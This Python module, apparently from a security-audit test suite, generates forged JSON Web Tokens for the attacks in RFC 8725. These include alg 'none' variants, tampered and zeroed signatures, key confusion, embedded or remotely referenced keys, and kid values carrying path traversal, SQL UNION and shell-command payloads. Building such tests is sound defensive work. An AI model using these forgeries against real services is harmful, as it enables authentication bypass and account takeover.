"""Tokens that nobody with the right key has signed, by the attacks that RFC 8725 lists.

Each is made of a real token, so that its signature is the only thing wrong with it. The names
are stable: they stand in findings.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field

from l7audit_suites.authn.jose import Token, assemble, encode, encode_json, sign
from l7audit_suites.authn.own_keys import KEY_ID, OwnKey

_NONES = ("none", "None", "NONE", "nOnE", "none ", "", "null")
_EMPTY_KEYS = (
    ("an empty file", "../../../../../../../../dev/null", b""),
    ("an empty file, absolute", "/dev/null", b""),
    ("an empty file, encoded", "..%2f..%2f..%2f..%2f..%2f..%2fdev%2fnull", b""),
    ("a file of known content", "/proc/sys/kernel/randomize_va_space", b"2\n"),
)
_SQL_KEYS = (
    ("SQL union", "none' UNION SELECT 'l7audit' -- ", b"l7audit"),
    ("SQL union, double quotes", 'none" UNION SELECT "l7audit" -- ', b"l7audit"),
    ("command", "none|echo l7audit", b"l7audit\n"),
)


@dataclass(frozen=True, slots=True)
class Forgery:
    """A token to be refused. `name` says in a few words what is wrong with it."""

    name: str
    text: str = field(repr=False)


def unsigned(token: Token) -> Iterator[Forgery]:
    """`alg` none in every casing, with no signature and with the old one."""
    for name in _NONES:
        header = {**token.header, "alg": name}
        yield Forgery(f"alg {name!r}", assemble(header, token.claims))
    header = {**token.header, "alg": "none"}
    yield Forgery("alg 'none' with a signature", assemble(header, token.claims, token.signature))
    yield Forgery("alg 'none' alone", assemble({"alg": "none"}, token.claims))
    yield Forgery("alg 'none', two segments", assemble(header, token.claims).rstrip("."))
    absent = {k: v for k, v in token.header.items() if k != "alg"}
    yield Forgery("no alg", assemble(absent, token.claims))
    yield Forgery("alg null", assemble({**token.header, "alg": None}, token.claims))
    listed = assemble({**token.header, "alg": ["none", token.algorithm]}, token.claims)
    yield Forgery("alg as a list with none", listed)
    twice = json.dumps(dict(token.header), separators=(",", ":"))[:-1] + ',"alg":"none"}'
    yield Forgery("alg twice", f"{encode(twice.encode())}.{token.segments[1]}.")


def tampered(token: Token) -> Iterator[Forgery]:
    """The signature taken away, cut, changed, or left under something else than it signed."""
    header, payload, signature = token.segments
    size = len(token.signature)
    yield Forgery("empty signature", f"{header}.{payload}.")
    yield Forgery("no signature segment", f"{header}.{payload}")
    yield Forgery("half a signature", f"{header}.{payload}.{encode(token.signature[: size // 2])}")
    flipped = bytes([token.signature[0] ^ 1]) + token.signature[1:] if size else b"\1"
    yield Forgery("one bit of the signature changed", f"{header}.{payload}.{encode(flipped)}")
    claims = {**token.claims, "l7audit": True}
    yield Forgery("a claim added", f"{header}.{encode_json(claims)}.{signature}")
    extended = {**token.header, "l7audit": True}
    yield Forgery("a header member added", f"{encode_json(extended)}.{payload}.{signature}")
    yield Forgery("claims and signature swapped", f"{header}.{signature}.{payload}")
    two_faced = f'{{"  {header}.{encode_json(claims)}.":"","protected":"{header}",'
    two_faced += f'"payload":"{payload}","signature":"{signature}"}}'
    yield Forgery("compact and JSON serialisation in one", two_faced)


def null_signatures(token: Token) -> Iterator[Forgery]:
    """Signatures of zeros: a broken ECDSA check holds r = s = 0 for right (CVE-2022-21449)."""
    header, payload, _ = token.segments
    if token.signature:
        zeros = encode(bytes(len(token.signature)))
        yield Forgery("a signature of zeros", f"{header}.{payload}.{zeros}")
    for algorithm, size in (("ES256", 64), ("ES384", 96), ("ES512", 132)):
        for name, signature in (
            ("r = s = 0", bytes(size)),
            ("r = s = 0 in DER", bytes.fromhex("3006020100020100")),
        ):
            forged = assemble({**token.header, "alg": algorithm}, token.claims, signature)
            yield Forgery(f"{algorithm} with {name}", forged)


def confused(
    token: Token, secrets: Iterator[tuple[str, bytes]], kid: str = ""
) -> Iterator[Forgery]:
    """HMAC tokens whose secret is the issuer's public key, of which `kid` is the id."""
    header = {**token.header, "alg": "HS256", **({"kid": kid} if kid else {})}
    for name, secret in secrets:
        yield Forgery(f"HS256 with the public key ({name})", sign(header, token.claims, secret))


def signed_by(token: Token, key: OwnKey) -> Iterator[Forgery]:
    """Tokens that a key of ours has signed, under the issuer's key id, ours and none."""
    header = {**token.header, "alg": key.algorithm}
    yield Forgery("our key under the issuer's key id", sign(header, token.claims, key.private))
    renamed = {**header, "kid": KEY_ID}
    yield Forgery("our key under an id of ours", sign(renamed, token.claims, key.private))
    nameless = {k: v for k, v in header.items() if k != "kid"}
    yield Forgery("our key without an id", sign(nameless, token.claims, key.private))


def embedded(token: Token, key: OwnKey) -> Iterator[Forgery]:
    """Tokens that bring the key to check them with in their own header."""
    base = {**token.header, "alg": key.algorithm}
    ours = {**base, "kid": KEY_ID}
    for name, extra in (("jwk", {"jwk": key.jwk}), ("x5c", {"x5c": key.x5c()})):
        yield Forgery(f"{name} in the header", sign({**base, **extra}, token.claims, key.private))
        text = sign({**ours, **extra}, token.claims, key.private)
        yield Forgery(f"{name} in the header, our key id", text)


def referring(token: Token, key: OwnKey, urls: Iterator[tuple[str, str, str]]) -> Iterator[Forgery]:
    """Tokens that say where to fetch their key. `urls` gives (name, header member, URL)."""
    base = {**token.header, "alg": key.algorithm, "kid": KEY_ID}
    for name, member, url in urls:
        yield Forgery(name, sign({**base, member: url}, token.claims, key.private))


def injected(token: Token) -> Iterator[Forgery]:
    """HMAC tokens whose `kid` leads a careless lookup to a key that everybody knows."""
    for name, kid, secret in (*_EMPTY_KEYS, *_SQL_KEYS):
        header = {**token.header, "alg": "HS256", "kid": kid}
        yield Forgery(f"kid leads to {name}", sign(header, token.claims, secret))
    for name, secret in (("the empty secret", b""), ("a NUL", b"\0")):
        header = {**token.header, "alg": "HS256", "kid": "no-such-key"}
        yield Forgery(f"unknown kid with {name}", sign(header, token.claims, secret))


def odd_key_ids(token: Token) -> Iterator[Forgery]:
    """Key ids of types and shapes that a lookup may stumble over; the signature is the old one."""
    for name, kid in (
        ("a number", 1),
        ("null", None),
        ("an object", {"$ne": ""}),
        ("a list", ["a"]),
        ("a quote", "'"),
        ("a NUL", "a\0b"),
        ("2000 characters", "k" * 2000),
    ):
        forged = assemble({**token.header, "kid": kid}, token.claims, token.signature)
        yield Forgery(f"kid is {name}", forged)


def guessed(token: Token, secrets: Iterator[str] | tuple[str, ...]) -> Iterator[Forgery]:
    """HMAC tokens signed with secrets out of examples and tutorials."""
    header = {**token.header, "alg": "HS256"}
    for secret in secrets:
        yield Forgery("a well-known HMAC secret", sign(header, token.claims, secret.encode()))
